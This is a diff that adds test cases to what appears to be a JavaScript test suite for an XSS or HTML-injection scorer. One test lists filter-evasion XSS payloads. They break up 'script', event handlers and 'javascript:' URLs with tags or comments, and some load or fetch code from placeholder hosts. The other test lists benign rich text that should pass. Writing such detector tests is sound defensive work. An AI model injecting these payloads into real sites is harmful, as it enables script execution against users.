@@ -557,3 +557,34 @@ describe("html family: an SVG or MathML island counts as closed only where a bro
     )
   })
 })
+
+describe("html family: a word split by any tag a filter strips", () => {
+  // PHP's `strip_tags` deletes tags with attributes, self-closing tags and comments as it deletes `<b>`
+  it("reads a script tag, handler or script URL cut by a tag with attributes, a self-closing tag or a comment", () => {
+    expectVerdicts((value) => score(value), [], [
+      "<scri<i class=a>pt src=//cdn.example/k.js></scri<i class=a>pt>",
+      "<s<wbr/>cript src=//cdn.example/k.js></s<wbr/>cript>",
+      "<scr<br />ipt>fetch('//203.0.113.7')</script>",
+      "<img src=x onl<!---->oad=import('//203.0.113.7')>",
+      "<body on<u title=x>load=eval(name)>",
+      "<a href=jav<hr/>ascript:fetch(2)>open</a>",
+      "<a href=javascript<>:fetch(2)>open</a>",
+      "<a href=javascript<!-- x -->:fetch(2)>open</a>",
+      "<img src=y onerror<>=import('//203.0.113.7')>"
+    ])
+  })
+
+  it("passes rich text whose tags with attributes, line breaks or comments touch words", () => {
+    expectVerdicts(
+      (value) => score(value),
+      [
+        "Read the <span class=\"hl\">manual</span>: it helps",
+        "first line<br/>second line<br />third",
+        "Price<!-- updated -->: 12 EUR",
+        "Map<String, List<Integer>> and Optional<T>:value",
+        "Java<sup>TM</sup>Script is a brand, see note<a id=\"n1\">1</a>"
+      ],
+      []
+    )
+  })
+})
